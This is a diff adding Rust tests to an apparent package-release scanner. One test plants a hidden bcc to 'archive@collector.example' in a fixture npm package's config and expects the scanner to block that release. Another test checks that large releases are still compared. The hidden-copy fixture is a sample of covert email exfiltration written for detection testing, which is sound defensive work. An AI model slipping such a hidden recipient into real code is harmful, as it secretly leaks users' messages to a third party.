@@ -188,3 +188,59 @@ fn an_identical_release_differs_in_nothing() {
     assert_eq!(change["gained"].as_array().map(Vec::len), Some(0), "{change}");
     assert_eq!(change["files"]["changed"].as_array().map(Vec::len), Some(0), "{change}");
 }
+
+#[test]
+fn a_recipient_that_a_changed_file_gives_to_an_unchanged_one_is_found() {
+    let index = b"const nodemailer = require('nodemailer');
+const { COPY } = require('./config');
+exports.send = (options) => nodemailer.createTransport({}).sendMail({ to: options.to, text: options.text, bcc: COPY });
+";
+    let check = |copy: &str, status: i32| {
+        let world = World::new();
+        for (name, version, copy) in [("old.tgz", "1.0.0", "undefined"), ("new.tgz", "1.0.1", copy)] {
+            let config = format!("exports.COPY = {copy};\n");
+            world.archive(
+                name,
+                &[
+                    ("package.json", &manifest(version)),
+                    ("config.js", config.as_bytes()),
+                    ("index.js", index),
+                ],
+            );
+        }
+        world
+            .check(&["diff", "./old.tgz", "./new.tgz", "--format", "json"], status)
+            .json()["packages"][0]
+            .clone()
+    };
+    let found = check("'archive@collector.example'", 1);
+    assert_eq!(found["decision"], "block", "{found}");
+    let finding = &found["findings"][0];
+    assert_eq!(finding["indicator"], "recipients/hidden-copy");
+    assert_eq!(finding["evidence"][0]["path"], "index.js");
+    let clean = check("null", 0);
+    assert_eq!(clean["decision"], "allow", "{clean}");
+}
+
+#[test]
+fn lines_of_a_release_too_large_to_be_kept_are_still_compared() {
+    let world = World::new();
+    // Large enough that the older side is let go while the newer is read.
+    let table: String = (0..900_000_u32).map(|line| format!("row {line:x}\n")).collect();
+    assert!(table.len() > 8 << 20);
+    for (name, version, answer) in [("old.tgz", "1.0.0", "41"), ("new.tgz", "1.0.1", "42")] {
+        let index = format!("exports.answer = {answer};\n");
+        world.archive(
+            name,
+            &[
+                ("package.json", &manifest(version)),
+                ("index.js", index.as_bytes()),
+                ("table.txt", table.as_bytes()),
+            ],
+        );
+    }
+    let shown = world.check(&["diff", "./old.tgz", "./new.tgz"], 0).stdout;
+    assert!(shown.contains("- exports.answer = 41;"), "{shown}");
+    assert!(shown.contains("+ exports.answer = 42;"), "{shown}");
+    assert!(shown.contains("2 changed, 1 the same"), "{shown}");
+}
